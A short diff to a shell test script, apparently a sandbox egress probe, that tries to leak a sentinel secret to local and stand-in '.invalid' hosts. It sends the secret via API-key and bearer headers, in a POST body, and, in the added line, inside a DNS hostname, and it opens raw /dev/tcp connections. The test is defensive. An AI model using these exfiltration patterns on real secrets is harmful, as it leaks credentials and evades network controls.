@@ -17,6 +17,7 @@ code name http://not-allowed.invalid/ >> probe.txt
 code sentinel -H "x-api-key: $S" "http://127.0.0.1:$ALLOWED/leak" >> probe.txt
 code sentinel-bearer -H "Authorization: Bearer $S" "http://127.0.0.1:$ALLOWED/leak" >> probe.txt
 code sentinel-body --data "k=$S" "http://127.0.0.1:$ALLOWED/leak-body" >> probe.txt
+code sentinel-host "http://$S.not-allowed.invalid/" >> probe.txt
 if getent hosts example.org > /dev/null; then echo DNS-WORKED >> probe.txt; fi
 if (exec 3<> "/dev/tcp/127.0.0.1/$OUTSIDE") 2> /dev/null; then echo DIRECT-OUTSIDE-WORKED >> probe.txt; fi
 if (exec 3<> "/dev/tcp/127.0.0.1/$DAEMON_PORT") 2> /dev/null; then echo DIRECT-DAEMON-WORKED >> probe.txt; fi
